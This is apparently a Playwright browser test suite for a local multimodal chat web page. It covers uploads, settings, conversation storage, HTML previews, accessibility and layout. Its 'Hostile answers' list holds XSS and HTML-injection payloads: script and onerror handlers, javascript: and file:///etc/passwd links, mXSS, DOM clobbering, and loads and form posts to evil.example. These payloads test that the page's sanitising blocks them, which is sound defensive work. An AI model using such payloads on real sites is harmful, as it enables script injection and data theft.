"""The page in a real browser: Debian's Chromium, driven by Playwright. `apt-get install chromium` first."""

import re
import threading
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from pixtral_cli.chat.engine import Sampling
from pixtral_cli.engines.local.engine import LocalEngine
from pixtral_cli.models.names import demo_folder
from pixtral_cli.server.http.access import AccessRules
from tests.fakes import FakeEngine
from tests.server.page.chromium import Held, ask, give, watched
from tests.server.serving import Running, png, serving
from tests.server.test_serve import draw

pytestmark = pytest.mark.slow


# The demo model


def test_a_dropped_picture_is_answered_rightly_by_the_demo_model(browser: Browser, tmp_path: Path) -> None:
    with serving(LocalEngine(demo_folder()), model="demo", defaults=Sampling(0.0)) as running:
        for page in watched(browser, running):
            give(page, "drop", draw(tmp_path / "x.png").read_bytes())
            expect(page.locator("#staged")).to_contain_text("tokens")
            ask(page, "What is in the image?")
            expect(page.locator(".assistant .said")).to_contain_text("red")
            expect(page.locator(".user img")).to_be_visible()
            ask(page, "What colour is it?")
            expect(page.locator(".assistant .said").nth(1)).to_contain_text("red")


# Pictures


@pytest.mark.parametrize("kind", ["drop", "paste", "pick"])
def test_pictures_come_in_by_drop_paste_and_picking(page: Page, engine: FakeEngine, kind: str) -> None:
    engine.answers = ["Two."]
    for size in (3, 4):
        if kind == "pick":
            files: Any = [{"name": "p.png", "mimeType": "image/png", "buffer": png(size, size)}]
            page.get_by_label("Add pictures").set_input_files(files)
        else:
            give(page, kind, png(size, size))
        expect(page.locator("#staged li")).to_have_count(size - 2)
    expect(page.locator("#staged li").nth(1)).to_contain_text("10 tokens")
    page.get_by_role("button", name="Remove").first.click()
    expect(page.locator("#staged li")).to_have_count(1)
    ask(page, "How many?")
    expect(page.locator(".assistant")).to_contain_text("Two.")
    expect(page.locator("#staged li")).to_have_count(0)
    assert [image.size for image in engine.seen[0][0][0].images] == [(4, 4)]


def test_what_is_no_picture_is_refused_with_a_reason(page: Page) -> None:
    give(page, "drop", b"not a picture at all")
    expect(page.locator("#wrong")).to_contain_text("looks like text")
    assert page.locator("body").inner_text().count("looks like text") == 1
    expect(page.locator("#staged li")).to_have_count(0)


# What stands in the header, below an answer and in the settings


@pytest.mark.parametrize("width", [320, 380, 1000])
def test_the_count_of_tokens_is_never_cut(page: Page, engine: FakeEngine, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 700})
    engine.answers, engine.context_window = ["Yes."], 128_000
    ask(page, "Is it?")
    expect(page.locator("#budget")).to_contain_text("of")
    assert page.evaluate("(budget => budget.scrollWidth <= budget.clientWidth)(document.getElementById('budget'))")
    assert page.locator("#budget").get_attribute("title")


@pytest.mark.parametrize(
    ("answer", "said"),
    [("Yes.", r"^1 token, after \d+\.\d s$"), ("Yes, it is.", r"^3 tokens, .* then [\d,]+ a second$")],
)
def test_an_answer_of_one_token_has_no_pace(page: Page, engine: FakeEngine, answer: str, said: str) -> None:
    engine.answers = [answer]
    ask(page, "Is it?")
    expect(page.locator(".assistant .tools .note")).to_have_text(re.compile(said))


def test_a_setting_out_of_its_range_is_told_and_not_used(page: Page, engine: FakeEngine) -> None:
    engine.answers = ["Yes."]
    page.keyboard.press("Alt+s")
    page.get_by_label("Temperature").fill("7")
    page.get_by_label("Max tokens").fill("-5")
    alert = page.locator("#settings [role=alert]")
    expect(alert).to_have_text("Max tokens is a whole number, 1 or more. What is there is not used.")
    page.get_by_label("Temperature").fill("70")
    expect(alert).to_contain_text("The temperature is a number from 0 to 10. What is there is not used.")
    page.keyboard.press("Escape")
    ask(page, "Is it?")
    expect(page.locator(".assistant")).to_contain_text("Yes.")
    assert engine.seen[0][1].temperature == 7
    assert engine.seen[0][1].max_tokens is None


# The conversation


def test_stop_regenerate_and_edit(page: Page, engine: FakeEngine) -> None:
    held = threading.Event()

    def slow() -> Iterator[str]:
        yield "The beginning"
        held.wait(120)
        yield " and the end"

    engine.answers = [slow(), "A new answer.", "An answer to the other."]  # type: ignore[list-item]
    page.get_by_label("Question", exact=True).fill("first")
    page.keyboard.press("Enter")
    expect(page.locator(".assistant .said")).to_contain_text("The beginning")
    page.get_by_role("button", name="Stop").click()
    held.set()
    expect(page.locator(".assistant")).to_contain_text("Stopped.")
    expect(page.locator(".assistant .said")).to_contain_text("The beginning")

    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator(".assistant .said")).to_have_text("A new answer.")
    expect(page.locator("#messages > li")).to_have_count(2)

    page.get_by_role("button", name="Edit").click()
    ask(page, "another")
    expect(page.locator(".assistant .said")).to_have_text("An answer to the other.")
    expect(page.locator(".user .said")).to_have_text("another")
    assert [message.text for message in engine.seen[-1][0]] == ["another"]


def test_conversations_are_kept_and_can_be_deleted(page: Page, engine: FakeEngine) -> None:
    engine.answers = ["One.", "Two.", "Three."]
    give(page, "drop", png(9, 9))
    ask(page, "first question")
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("#messages > li")).to_have_count(0)
    ask(page, "second question")
    page.reload()
    expect(page.locator("#conversations li")).to_have_count(2)
    page.get_by_role("button", name="first question", exact=True).click()
    expect(page.locator(".assistant .said")).to_have_text("One.")
    expect(page.locator(".user img")).to_be_visible()
    ask(page, "and further")
    expect(page.locator(".assistant .said").nth(1)).to_have_text("Three.")
    heard = engine.seen[-1][0]
    assert [message.text for message in heard] == ["first question", "One.", "and further"]
    assert heard[0].images[0].size == (9, 9)
    page.get_by_role("button", name="Delete first question").click()
    expect(page.locator("#conversations li")).to_have_count(1)
    expect(page.locator("#messages > li")).to_have_count(0)


def test_a_deleted_conversation_can_be_had_back(page: Page, engine: FakeEngine) -> None:
    engine.answers = ["One."]
    give(page, "drop", png(9, 9))
    ask(page, "first question")
    page.get_by_role("button", name="Delete first question").click()
    expect(page.locator("#conversations li")).to_have_count(0)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator("#conversations li")).to_have_count(1)
    expect(page.locator(".assistant .said")).to_have_text("One.")
    expect(page.locator(".user img")).to_be_visible()
    expect(page.get_by_role("button", name="Undo")).to_be_hidden()


OLDER = """async () => {
  const gone = indexedDB.deleteDatabase("pixtral");
  await new Promise((resolve) => (gone.onsuccess = gone.onerror = resolve));
  const opened = indexedDB.open("pixtral", 1);
  opened.onupgradeneeded = () => opened.result.createObjectStore("conversations", {keyPath: "id"});
  await new Promise((resolve) => (opened.onsuccess = resolve));
  const writing = opened.result.transaction("conversations", "readwrite");
  const message = {role: "user", text: "asked of old"};
  writing.objectStore("conversations").put({id: "old", title: "An old one", changed: 1, messages: [message]});
  await new Promise((resolve) => (writing.oncomplete = resolve));
  opened.result.close();
}"""


def test_conversations_of_an_older_page_are_still_there(page: Page, running: Running) -> None:
    page.goto(f"{running.url}/page/icon.svg")  # nothing here has the database open
    page.evaluate(OLDER)
    page.goto(running.url)
    page.get_by_role("button", name="An old one", exact=True).click()
    expect(page.locator(".user .said")).to_have_text("asked of old")


def test_an_answer_does_not_scroll_a_reader_down(page: Page, engine: FakeEngine) -> None:
    page.set_viewport_size({"width": 900, "height": 400})
    engine.answers = ["line\n\n" * 60, ["more\n\n"] * 60]
    ask(page, "first")
    expect(page.get_by_role("status")).to_have_text("The answer is complete.")
    expect(page.get_by_role("button", name="To the end")).to_be_hidden()
    page.evaluate("document.querySelector('#talk').scrollTop = 0")
    page.get_by_role("button", name="To the end").click()
    held = threading.Event()
    engine.answers = [Held(held, "more\n\n" * 60, "and the end")]  # type: ignore[list-item]
    page.get_by_label("Question", exact=True).fill("second")
    page.keyboard.press("Enter")
    expect(page.locator(".assistant .said").nth(1)).to_contain_text("more")
    page.evaluate("document.querySelector('#talk').scrollTop = 0")
    held.set()
    expect(page.get_by_role("status")).to_have_text("The answer is complete.")
    assert page.evaluate("document.querySelector('#talk').scrollTop") == 0
    assert page.evaluate("document.activeElement.id") == "question"


def test_an_idea_becomes_the_question_and_asks_for_a_picture(page: Page, engine: FakeEngine, tmp_path: Path) -> None:
    engine.answers = ["Ten."]
    drawing = draw(tmp_path / "x.png")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Transcribe all the text.").click()
    chooser.value.set_files(drawing)
    expect(page.locator("#staged")).to_contain_text("10 tokens")
    page.keyboard.press("Enter")
    expect(page.locator(".assistant .said")).to_have_text("Ten.")
    assert engine.seen[0][0][0].text == "Transcribe all the text."


def test_a_picture_is_enlarged_and_let_go_by_the_keyboard(page: Page, engine: FakeEngine) -> None:
    engine.answers = ["Nice."]
    give(page, "drop", png(9, 9))
    ask(page, "?")
    page.get_by_role("button", name="Enlarge").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog", name="Picture")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog", name="Picture")).to_be_hidden()
    assert page.evaluate("document.activeElement.ariaLabel").startswith("Enlarge")


def test_while_the_model_is_loaded_that_is_reported(browser: Browser, engine: FakeEngine) -> None:
    loaded = threading.Event()
    with serving(engine, alive=loaded.is_set, window=lambda: 500 if loaded.is_set() else None) as running:
        for page in watched(browser, running):
            expect(page.locator("#budget")).to_have_text("The model is being loaded…")
            loaded.set()
            expect(page.locator("#budget")).to_have_text("500 tokens")


PLAIN_HTTP = """() => {
  delete Crypto.prototype.randomUUID;
  Object.defineProperty(Navigator.prototype, "clipboard", {value: undefined});
}"""


def test_it_works_over_plain_http_from_another_machine(page: Page, running: Running, engine: FakeEngine) -> None:
    """What browsers keep from such pages is taken away here: `randomUUID` and the clipboard."""
    page.add_init_script(f"({PLAIN_HTTP})()")
    page.clock.install()
    page.goto(running.url)
    engine.answers = ["Over the wire."]
    ask(page, "hello")
    page.clock.pause_at(datetime.now() + timedelta(hours=1))  # what the button says would be gone in a moment
    page.get_by_role("button", name="Copy").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    page.get_by_label("Question", exact=True).focus()
    page.keyboard.press("Control+v")
    expect(page.get_by_label("Question", exact=True)).to_have_value("Over the wire.")


def test_an_error_is_reported_and_the_question_can_be_asked_again(page: Page, engine: FakeEngine) -> None:
    from pixtral_cli.errors import ContextError

    engine.answers = [ContextError("The prompt takes too many tokens"), "Better."]
    ask(page, "long")
    expect(page.locator(".error")).to_contain_text("too many tokens")
    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator(".assistant .said")).to_have_text("Better.")


class Broken(list[str]):
    """An answer that breaks off."""

    def __iter__(self) -> Iterator[str]:
        yield from super().__iter__()
        raise KeyError("a bug")


def test_the_text_before_an_error_stays(page: Page, engine: FakeEngine) -> None:
    engine.answers = [Broken(["So far, so good."]), "Better."]
    ask(page, "?")
    expect(page.locator(".assistant .said")).to_have_text("So far, so good.")
    expect(page.locator(".error")).to_have_text("The server failed.")
    page.reload()
    page.get_by_role("button", name="?", exact=True).click()
    expect(page.locator(".error")).to_have_text("The server failed.")
    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator(".assistant .said")).to_have_text("Better.")


def test_a_server_with_a_key_asks_for_it(browser: Browser, engine: FakeEngine) -> None:
    engine.answers = ["Welcome."]
    with serving(engine, rules=AccessRules(api_key="the-key")) as running:
        for page in watched(browser, running):
            for key in ("wrong", "the-key"):
                page.get_by_label("This server needs an API key").fill(key)
                page.get_by_role("button", name="Continue").click()
            expect(page.locator("#key-form")).to_be_hidden()
            ask(page, "hello")
            expect(page.locator(".assistant .said")).to_have_text("Welcome.")


# Preview

SITE = (
    "Here:\n\n```html\n<!doctype html><style>h1{color:rgb(1,2,3)}</style><h1>A joke website</h1>"
    "<button onclick=\"document.title='ran';this.textContent='ran'\">Push</button>"
    "<script>fetch('/v1/models').catch(() => document.querySelector('h1').append(' cut off'));"
    "try { parent.document.title = 'hacked' } catch { document.querySelector('h1').append(' alone') }</script>\n```\n"
)


def test_a_page_from_a_sketch_is_previewed_and_its_scripts_wait(page: Page, engine: FakeEngine) -> None:
    engine.answers = [SITE]
    ask(page, "Make this website")
    page.get_by_role("button", name="Preview", exact=True).click()
    frame = page.frame_locator("#frame")
    expect(frame.get_by_role("heading")).to_have_text("A joke website")
    expect(frame.get_by_role("heading")).to_have_css("color", "rgb(1, 2, 3)")
    frame.get_by_role("button").click()
    expect(frame.get_by_role("button")).to_have_text("Push")

    page.get_by_role("button", name="Run scripts").click()
    expect(frame.get_by_role("heading")).to_contain_text("alone")
    expect(frame.get_by_role("heading")).to_contain_text("cut off")
    frame.get_by_role("button").click()
    expect(frame.get_by_role("button")).to_have_text("ran")
    assert page.title() == "pixtral-12b"
    page.get_by_role("button", name="Close the preview").click()
    expect(page.get_by_label("Preview", exact=True)).to_be_hidden()


def test_a_page_that_is_shown_grows_with_the_answer_and_can_be_saved(page: Page, engine: FakeEngine) -> None:
    held = threading.Event()
    engine.answers = [Held(held, "```html\n<!doctype html><h1>First</h1>\n", "<h2>Then</h2>\n```\n")]
    page.get_by_label("Question", exact=True).fill("a page")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Preview", exact=True).click()
    frame = page.frame_locator("#frame")
    expect(frame.get_by_role("heading", name="First")).to_be_visible()
    held.set()
    expect(frame.get_by_role("heading", name="Then")).to_be_visible()
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save").click()
    assert saved.value.suggested_filename == "page.html"
    assert Path(saved.value.path()).read_text() == "<!doctype html><h1>First</h1>\n<h2>Then</h2>\n"


# Hostile answers

HOSTILE = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "[click](javascript:window.hacked=1) [data](data:text/html,<script>hacked=1</script>) [file](file:///etc/passwd)",
    "![tracker](http://evil.example/pixel.png) <img src='//evil.example/p.png'> <link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}@import '//evil.example/x.css'</style><base href=//evil.example/>",
    "<form action=//evil.example/><input name=key><button>Send</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<div id=send name=body style='position:fixed;inset:0'>clobber</div><a id=question href=x>x</a>",
    '```html"><script>window.hacked=1</script>\n<script>window.hacked=1</script>\n```',
    "`<img src=x onerror=window.hacked=1>` <details open ontoggle=window.hacked=1>",
    "<object data=javascript:window.hacked=1></object><embed src=//evil.example/><video src=//evil.example/v.mp4></video>",
]


def test_hostile_answers_run_nothing_load_nothing_and_cover_nothing(page: Page, engine: FakeEngine) -> None:
    for payload in HOSTILE:
        engine.answers = [[payload[:7], payload[7:20], payload[20:]]]
        ask(page, "?")
    engine.answers = ["All is well."]
    ask(page, "still there?")
    expect(page.locator(".assistant .said").last).to_have_text("All is well.")
    assert page.evaluate("window.hacked") is None
    bad = "script, iframe, img, style, link, base, form, input, object, embed, video, meta, svg, math, [style], [id], [name]"
    assert page.locator(".said").locator(bad).count() == 0
    links = page.locator(".said a[href]").evaluate_all("all => all.map(one => one.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}


# Everybody


def test_everything_has_a_name_and_the_keyboard_reaches_it(page: Page, engine: FakeEngine) -> None:
    engine.answers = ["Here is `code`:\n\n```python\nprint(1)\n```\n"]
    give(page, "drop", png())
    page.get_by_label("Question", exact=True).fill("code")
    page.keyboard.press("Enter")
    expect(page.locator("figure.code")).to_be_visible()
    nameless = (
        "all => all.filter(one => one.offsetParent && !(one.ariaLabel || one.textContent.trim() || one.alt)).length"
    )
    assert page.locator("button, img").evaluate_all(nameless) == 0
    reached = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.id || document.activeElement.textContent.trim()"))
    assert {"question", "files", "new", "theme", "Copy", "Regenerate", "Edit"} <= reached
    assert page.get_by_role("status").text_content() == "The answer is complete."
    snapshot = page.locator("body").aria_snapshot()
    for landmark in ("navigation", "main", "region", "status", "textbox"):
        assert landmark in snapshot


@pytest.mark.parametrize("width", [320, 390, 800, 1600])
def test_it_fits_every_width_in_dark_and_light(page: Page, engine: FakeEngine, width: int) -> None:
    engine.answers = [
        "# A plan\n\n| a | b |\n|---|---|\n| long cell " + "x" * 90 + " | 2 |\n\n```\n" + "y" * 300 + "\n```"
    ]
    page.set_viewport_size({"width": width, "height": 700})
    give(page, "drop", png(600, 20))
    ask(page, "w" * 200)
    for scheme in ("dark", "light"):
        page.emulate_media(color_scheme=scheme)
        wide = page.evaluate("[document.documentElement.scrollWidth, document.querySelector('#talk').scrollWidth]")
        assert wide[0] <= width
        assert wide[1] <= page.evaluate("document.querySelector('#talk').clientWidth")
        assert page.evaluate(CONTRAST) >= 4.5
    page.get_by_role("button", name="Dark or light").click()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"


CONTRAST = """() => {
  const light = (colour) => {
    const [r, g, b] = colour.match(/[\\d.]+/g).map(Number).map((c) => c / 255)
      .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const seen = (selector, paper) => {
    const a = light(getComputedStyle(document.querySelector(selector)).color);
    const b = light(getComputedStyle(document.querySelector(paper)).backgroundColor);
    return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
  };
  return Math.min(seen("#talk", "body"), seen("#budget", "body"), seen("#new", "#sidebar"), seen("#send", "#send"), seen(".user .said", ".user .said"),
                  seen(".hint", "#sidebar"), seen("#status", "body"));
}"""
